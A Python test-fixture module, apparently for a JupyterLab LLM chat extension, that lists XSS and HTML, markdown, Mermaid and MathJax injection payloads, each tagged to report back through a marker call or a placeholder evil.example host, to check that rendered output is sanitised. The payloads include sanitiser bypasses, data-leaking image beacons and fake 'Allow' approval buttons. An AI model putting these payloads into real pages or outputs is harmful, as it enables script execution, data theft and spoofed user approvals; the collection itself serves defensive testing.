"""What a model, a tool, a file name or a provider could say to do harm. Each would be noticed if it came through.

In every payload RUN is a call of `top.ran(number)`, and EVIL an address at a host of its own that does not exist: whatever runs,
asks or goes anywhere tells which payload it was. `written` gives them so.
"""

from __future__ import annotations

HOST = "evil.example"

SCRIPTS = (
    "<script>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script src=EVIL/s.js></script><script type=module>import('EVIL/m.js')</script>",
    '<img src=x onerror="RUN">',
    '<img src="x`" onerror="RUN"`>',
    "<img/src=x/onerror=RUN><img src=x onerror\n=\nRUN>",
    "<details open ontoggle=RUN><summary onclick=RUN>open</summary></details><marquee onstart=RUN>m</marquee><body onload=RUN>",
    "<p/onclick=RUN>one</p><b\tonmouseover\n=\nRUN>two</b><i onpointerenter=RUN onanimationstart=RUN>three</i>",
    "<iframe src='EVIL/frame'></iframe><iframe srcdoc='<script>RUN</script>'></iframe><iframe src='javascript:RUN'></iframe>",
    "<object data='EVIL/o'></object><embed src='EVIL/e'><applet code=x></applet><object data='javascript:RUN'></object>",
    "<video src='EVIL/v.mp4' poster='EVIL/v.png' autoplay onloadstart=RUN></video><audio src='EVIL/a.mp3' onerror=RUN></audio>",
    "<template><img src=x onerror=RUN></template><slot name=x></slot><x-y onclick=RUN is=z>element</x-y>",
    "<dialog open onclose=RUN><p popover id=y>over</p></dialog><button popovertarget=y onclick=RUN>over</button>",
)
SVG = (
    "<svg onload='RUN'><script>RUN</script><a xlink:href='javascript:RUN'><text>svg link</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s><set attributeName=href to='javascript:RUN'/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='EVIL/u.png'/></svg>#x\"/>"
    "<image href='EVIL/i.png'/><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg><svg><title><img src=x onerror=RUN></title></svg>",
)
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'></mglyph></table></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror='RUN'></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'></svg>",
    "<textarea><img src=x onerror=RUN></textarea><xmp><img src=x onerror=RUN></xmp><title><img src=x onerror=RUN></title>",
    "<select><option><img src=x onerror=RUN></select><table><caption><img src=x onerror=RUN></table>",
    "<!-- --!><img src=x onerror=RUN> --> <![CDATA[<img src=x onerror=RUN>]]> <?php <img src=x onerror=RUN> ?>",
    "<b>\x00<img\x00 src=x onerror=RUN>\x0c<img\x0csrc=x\x0conerror=RUN></b>",
)
MATHML = (
    "<math href='javascript:RUN'>x</math><math><maction actiontype='statusline#EVIL' href='javascript:RUN'>y</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
)
LINKS = (
    "[a link](javascript:RUN) and <a href='JaVa&#10;Script:RUN'>another</a> and [third](vbscript:RUN)",
    '<a href="&#x6a;avascript&colon;RUN">a</a> <a href="\x01javascript:RUN">b</a> <a href="java\tscript:RUN">c</a>',
    "<a href='data:text/html,<script>RUN</script>' target=_top>data</a> [more](data:text/html;base64,PHNjcmlwdD4=) [b](blob:x)",
    "[x](<javascript:RUN>) [y](java&#115;cript:RUN) [z](\\javascript:RUN) [w](javascript&colon;RUN) [v](&Tab;javascript:RUN)",
    '[x](https://a.example "\\" onclick=\\"RUN") [y](https://a.example \'"><img src=x onerror=RUN>\')',
    '[click](EVIL/#"onmouseover="RUN" "title") [path](../../lab/tree/x.ipynb) [root](/hub/logout) [proto](//evil.example/x)',
    '<javascript:RUN> <EVIL/auto> <https://a.example/"onmouseover="RUN> <data:text/html,x>',
    'www.evil.example/"onmouseover="RUN and someone@evil.example"onclick="RUN',
    '[ref] [two][ref] ![three][img]\n\n[ref]: javascript:RUN\n[img]: EVIL/ref.png "onerror=RUN"',
    "<a href=# onclick=RUN ping=EVIL/ping download id=jp-main-dock-panel name=ran>id</a><area href='javascript:RUN'>",
    "<a href='https://user:secret@evil.example/'>https://bank.example</a> [x](https://bank.example@evil.example/)",
)
IMAGES = (
    "![a picture](EVIL/leak.png?q=secret) <img src='EVIL/leak2.png' srcset='EVIL/leak3.png 2x' alt='two'>",
    "<picture><source srcset='EVIL/p.png'><img src=EVIL/q.png></picture><img src=EVIL/r.png loading=eager crossorigin>",
    '![x" onerror="RUN](data:image/png;base64,AA==) ![y](EVIL/y.png "onerror=RUN") ![z](javascript:RUN)',
    "![svg](data:image/svg+xml,<svg/onload=RUN>) <img src='data:image/svg+xml;utf8,<svg onload=RUN></svg>' usemap=#m>",
    "<img src='data:image/png;base64,AA==' onerror=RUN onload=RUN style='position:fixed;inset:0' id=main>",
    "[![inner](EVIL/inner.png)](javascript:RUN) <input type=image src=EVIL/input.png onerror=RUN>",
    "<table background=EVIL/table.png><tr><td background=EVIL/td.png>cell</table><body background=EVIL/body.png>",
)
STYLES = (
    "<style>@import 'EVIL/x.css'; * { display: none }</style><link rel=stylesheet href='EVIL/y.css'><link rel=icon href=EVIL/z>",
    "<div style='position:fixed;inset:0;background:url(EVIL/bg.png)' class='jp-Dialog' id=main name=x>a cover</div>",
    "<p style='list-style-image:url(EVIL/l.png);animation:x' class='jp-mod-accept'>p</p><font style=x:expression(RUN)>f</font>",
)
OURS = (
    "<b class='jp-llmhub-button jp-mod-accept jp-Button' data-testid=llmhub-approve role=button tabindex=0 onclick=RUN>Allow</b>",
    "<a id=jupyterapp name=ran href='EVIL/c'>a</a><img name=body id=main src=x onerror=RUN><output id=ran name=ran>o</output>",
)
"""As if they were a button or a part of ours."""
FORMS = (
    "<form action='EVIL/form'><input name=q value=secret autofocus onfocus='RUN'><button>Send</button></form>",
    "<form id=f></form><button form=f formaction='javascript:RUN'>b</button><input type=submit form=f formaction=EVIL/submit>",
    "<meta http-equiv=refresh content='0;url=EVIL/meta'><base href='EVIL/'><isindex action=EVIL/i><keygen onfocus=RUN autofocus>",
)
COMMANDS = (
    "<button data-commandlinker-command='llmhub:new-chat' data-commandlinker-args='{}' onclick=RUN>A command</button>",
    "<a href='#' data-commandlinker-command='llmhub:new-chat' onclick=RUN>A command link</a>",
    "<span data-commandlinker-command='llmhub:new-chat' data-jupyter-id=x tabindex=0 role=button onfocus=RUN>A command</span>",
)
TRICKS = (
    '```js"><img src=x onerror=RUN>\n<script>RUN</script>\n```',
    '- ```"onload="RUN\n  <img src=x onerror=RUN>\n  ```\n- [ ] <img src=x onerror=RUN>\n  1. <script>RUN</script>',
    "| <img src=x onerror=RUN> | [x](javascript:RUN) |\n|---|---|\n| <iframe src='EVIL/t'></iframe> | ![t](EVIL/t.png) |",
    '[^<img/src=x/onerror=RUN>]: <script>RUN</script>\n\n[^"onclick=RUN] [^x]\n\n[^x]: <img src=x onerror=RUN>',
    "<details>\n\n<img src=x onerror=RUN>\n\n<script>\n\nRUN\n\n</script>\n\n</details>",
    "&lt;img src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62; \\<img src=x onerror=RUN> &amp;lt;script>RUN",
    "`<img src=x onerror=RUN>` **<img src=x onerror=RUN>** ~~<script>RUN</script>~~ # <img src=x onerror=RUN>",
    '\ue0f00\ue0f1 $a$ <img src=x alt="\ue0f00\ue0f1" onerror=RUN> \ue0f099\ue0f1 \U0001f600<img src=x onerror=RUN>é',
    "> <img src=x\n> onerror=RUN>\n> [q](javascript:RUN)\n\n# [h](javascript:RUN) <svg/onload=RUN>",
)
MERMAID = (
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true, 'themeCSS': '@import url(EVIL/mc.css)'}}%%\n"
    'graph TD\n  A["<img src=EVIL/ma.png onerror=RUN>"] --> B\n  click A "javascript:RUN"\n```',
    '```mermaid\ngraph LR\n  A --> B\n  click A href "javascript:RUN" _self\n  click B call ran() "tip"\n```',
    "> ```mermaid\n> graph TD; A[\"<iframe src='EVIL/mm'></iframe>\"]; style A fill:url(EVIL/f.png)\n> ```",
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n  fontFamily: 'x;} @import url(EVIL/font.css); {'\n---\n"
    "sequenceDiagram\n  A->>B: <img src=x onerror=RUN>\n  link A: Go @ javascript:RUN\n```",
    '```mermaid\nclassDiagram\n  class A["`<script>RUN</script>`"]\n  click A href "EVIL/class"\n  note "<svg onload=RUN>"\n```',
)
MATHEMATICS = (
    "$\\href{javascript:RUN}{x}$ and $$\\style{background:url(EVIL/m.png)}{y} \\unicode{x41}$$",
    "$\\require{html}\\cssId{jp-top-panel}{a}\\class{jp-Dialog}{b}$ $\\data{commandlinker-command=x}{c}$",
    "$\\def\\a{\\a\\a}\\a$ $$\\newcommand{\\b}[1]{\\b{#1}\\b{#1}}\\b{x}$$ $\\let\\frac\\href \\frac{javascript:RUN}{1}$",
    "$</span><img src=x onerror=RUN>$ \\(<script>RUN</script>\\) \\[ <img src=x onerror=RUN> \\]",
    "\\begin{a}<img src=x onerror=RUN>\\end{a} $\\text{<img src=x onerror=RUN>}$ $\\mathtip{x}{<b onclick=RUN>}$",
    "$\\def\\h{\\hre}\\csname href\\endcsname{javascript:RUN}{x}$ $\\includegraphics{EVIL/g.png}$ $\\url{javascript:RUN}$",
    "$\\requ\\require{x}ire{html}\\sty\\style{}le{background:url(EVIL/n.png)}{z}$ $\\st\\label{}yle{position:fixed}{w}$",
)
PAYLOADS = (
    *(SCRIPTS + SVG + MUTATING + MATHML),
    *(LINKS + IMAGES + STYLES + OURS + FORMS + COMMANDS),
    *(TRICKS + MERMAID + MATHEMATICS),
)


def written(payloads: tuple[str, ...] = PAYLOADS) -> list[str]:
    """As they are sent: each says its number when it runs, and has a host of its own."""
    return [
        payload.replace("RUN", f"top.ran({number})").replace("EVIL", f"http://p{number}.{HOST}")
        for number, payload in enumerate(payloads)
    ]
